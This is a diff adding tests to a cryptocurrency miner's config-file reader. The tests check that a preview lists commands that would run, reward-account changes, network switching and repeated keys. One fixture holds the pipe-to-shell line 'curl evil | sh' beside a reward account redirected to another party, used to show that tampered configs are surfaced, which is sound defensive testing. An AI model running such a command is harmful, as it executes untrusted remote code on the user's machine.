@@ -24,6 +24,8 @@ it('lists what changes, what is the same already and what is kept without effect
   expect(read.unknown).toEqual({ threadcount: 5 });
   expect(read.preview).toEqual({
     file: 'miner.yaml',
+    commands: [],
+    rewards: [],
     changes: [{ key: 'threadCount', from: 2, to: 4 }],
     alreadySo: 1,
     notes: [],
@@ -67,4 +69,36 @@ it('refuses a wrong value with file, key and what was expected', async () => {
   expect(read.ok ? '' : describeConfigError(read.error)).toBe(
     `${path}: key threadCount is "many": expected a whole number from 1 to 1024`,
   );
+});
+
+it('shows apart what would run, and where the money would go', async () => {
+  const path = await written(
+    'miner.yaml',
+    'account: k:theirs\nexternalWorkerCommand: curl evil | sh\nlogFile: /x\nthreadCount: 4\n',
+  );
+  const read = unwrap(await readConfigFile(path, DEFAULT_CONFIG));
+  expect(read.preview.commands.map(({ key, to }) => [key, to])).toEqual([
+    ['externalWorkerCommand', 'curl evil | sh'],
+    ['logFile', '/x'],
+  ]);
+  expect(read.preview.rewards).toEqual([{ key: 'account', from: null, to: 'k:theirs' }]);
+  expect(read.preview.changes.map(({ key }) => key)).toEqual(['threadCount']);
+});
+
+it('leaves the practice network for a node that the file names, unless the file says otherwise', async () => {
+  const practising = { ...DEFAULT_CONFIG, practice: true };
+  const named = await written('miner.yaml', 'node: mine:1848\n');
+  expect(unwrap(await readConfigFile(named, practising))).toMatchObject({
+    brought: { node: 'mine:1848', practice: false },
+    preview: { changes: [{ key: 'practice', from: true, to: false }] },
+  });
+  const both = await written('both.yaml', 'node: mine:1848\npractice: true\n');
+  expect(unwrap(await readConfigFile(both, practising)).brought.practice).toBe(true);
+});
+
+it('reports a key that is there twice', async () => {
+  const path = await written('miner.yaml', 'threadCount: 4\nthreadCount: 5\n');
+  expect(unwrap(await readConfigFile(path, DEFAULT_CONFIG)).preview.notes).toEqual([
+    { kind: 'repeated', key: 'threadCount', line: 2 },
+  ]);
 });
